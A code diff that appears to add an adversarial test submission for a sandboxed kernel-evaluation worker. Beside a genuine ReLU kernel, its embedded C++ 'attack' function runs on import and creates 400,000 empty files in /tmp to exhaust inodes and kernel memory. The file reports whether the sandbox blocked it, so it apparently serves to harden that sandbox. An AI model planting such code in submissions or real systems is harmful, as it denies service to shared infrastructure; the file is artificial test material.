@@ -1,0 +1,54 @@
+"""Makes 400,000 empty files in its /tmp: 0 bytes against the size quota, ~3M inodes (kernel
+memory) allowed by a tmpfs of default inode count."""
+
+import torch
+import torch.nn as nn
+
+from kforge_worker import native
+
+SRC = r"""
+#include <cerrno>
+#include <cstdint>
+#include <cstdio>
+#include <cstdlib>
+#include <cstring>
+#include <fcntl.h>
+#include <pthread.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+
+static void note(char* msg, const char* what) { snprintf(msg, 255, "%s: %s", what, strerror(errno)); }
+
+extern "C" void relu(const float* x, float* y, int64_t n) {
+    for (int64_t i = 0; i < n; ++i) y[i] = x[i] > 0.f ? x[i] : 0.f;
+}
+
+extern "C" void attack(int32_t* ok, char* msg) {
+    int dir = open("/tmp", O_RDONLY | O_DIRECTORY);
+    if (dir < 0) { note(msg, "/tmp"); return; }
+    char name[32];
+    for (int i = 0; i < 400000; ++i) {
+        snprintf(name, sizeof name, "e%d", i);
+        int fd = openat(dir, name, O_WRONLY | O_CREAT, 0600);
+        if (fd < 0) { snprintf(msg, 255, "file %d: %s", i, strerror(errno)); return; }
+        close(fd);
+    }
+    *ok = 1;
+}
+"""
+_lib = native.load(SRC, {"relu": [native.PTR, native.PTR, native.I64], "attack": [native.PTR, native.PTR]})
+
+_ok = torch.zeros(1, dtype=torch.int32)
+_msg = torch.zeros(256, dtype=torch.uint8)
+_lib.attack(native.ptr(_ok, None), native.ptr(_msg, None))
+if not int(_ok[0]):
+    raise RuntimeError("attack blocked: " + bytes(_msg.tolist()).split(b"\0")[0].decode(errors="replace"))
+
+
+class ModelNew(nn.Module):
+    def forward(self, x):
+        x = x.contiguous()
+        out = torch.empty_like(x)
+        _lib.relu(native.ptr(x), native.ptr(out), x.numel())
+        return out
